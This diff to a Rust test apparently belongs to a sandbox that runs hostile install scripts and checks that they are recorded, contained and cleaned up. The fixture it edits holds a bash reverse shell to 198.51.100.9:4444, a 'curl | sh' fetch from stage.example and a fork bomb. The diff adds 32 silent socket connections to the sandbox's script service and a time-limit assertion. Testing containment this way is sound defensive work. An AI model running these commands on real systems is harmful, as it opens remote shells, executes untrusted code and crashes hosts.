@@ -386,6 +386,14 @@ cp.spawn('bash', ['-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'], { stdio: 
 cp.spawn('sh', ['-c', 'curl -s http://stage.example/run.sh | sh'], { stdio: 'ignore', detached: true }).unref();
 cp.spawn('sh', ['-c', 'sleep 1; echo late > /tmp/late-marker; sleep 100'], { stdio: 'ignore', detached: true }).unref();
 cp.spawn('sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore', detached: true }).unref();
+// Connections to PID 1's script service that never say a word: the phase keeps its clock.
+const net = require('net');
+const idle = [];
+for (let i = 0; i < 32; i++) {
+  const socket = net.connect({ path: '\0dsca-script-shell' });
+  socket.on('error', () => {});
+  idle.push(socket);
+}
 setTimeout(() => { for (;;) {} }, 1500);
 "#;
 
@@ -422,6 +430,9 @@ fn hostile_shapes_are_recorded_contained_and_cleaned_up() {
     assert!(started.elapsed() < std::time::Duration::from_secs(60));
     let run = &report["dynamic"];
     assert_eq!(run["phases"][0]["status"], "timeout", "{:#}", run["phases"]);
+    // Silent clients of the script service cost PID 1 little: the 12 s limit held.
+    let install_ms = run["phases"][0]["duration_ms"].as_u64().unwrap_or(u64::MAX);
+    assert!(install_ms < 14_000, "the install ran {install_ms} ms");
 
     let dns = phase_records(run, "/dns");
     assert!(
